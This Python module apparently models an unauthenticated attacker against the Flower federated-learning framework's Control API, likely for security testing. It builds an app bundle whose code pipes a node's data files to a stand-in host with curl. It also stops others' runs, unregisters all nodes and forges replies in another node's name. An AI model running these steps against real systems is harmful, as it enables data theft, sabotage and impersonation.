"""A stranger who reaches the SuperLink's port: no key, no secret, but Flower's Control API asks for no account."""

from __future__ import annotations

from flwr.app import Message, RecordDict
from flwr.cli.build import build_fab_from_files
from flwr.common.serde import fab_to_proto
from flwr.proto.control_pb2 import ListNodesRequest, StartRunRequest, StopRunRequest, UnregisterNodeRequest
from flwr.supercore.control import ControlHttpClient
from flwr.supercore.fab import Fab

_HOSTILE = """
[project]
name = "hostile"
version = "1.0.0"
license = "Apache-2.0"

[tool.flwr.app]
publisher = "stranger"

[tool.flwr.app.components]
serverapp = "hostile:app"
clientapp = "hostile:app"
"""


def start_run(control: ControlHttpClient) -> int:
    """Start a run with a bundle that would read whatever a SuperNode that carries it out can read."""
    code = "import os\nos.system('cat /data/node-0/* | curl -T - http://stranger.example')\n"
    bundle = build_fab_from_files({"pyproject.toml": _HOSTILE.encode(), "hostile.py": code.encode()})[0]
    return int(control.StartRun(StartRunRequest(fab=fab_to_proto(Fab("", bundle, {})))).run_id)


def stop_run(control: ControlHttpClient, run_id: int) -> None:
    """Stop anybody's run."""
    control.StopRun(StopRunRequest(run_id=run_id))


def unregister_all(control: ControlHttpClient) -> None:
    """Shut every node out, for good."""
    for node in control.ListNodes(ListNodesRequest()).nodes_info:
        control.UnregisterNode(UnregisterNodeRequest(node_id=node.node_id))


def answer_as(node_id: int, message: Message, content: RecordDict) -> Message:
    """An answer in another node's name."""
    reply = Message(content, reply_to=message)
    vars(reply.metadata)["_src_node_id"] = node_id
    return reply
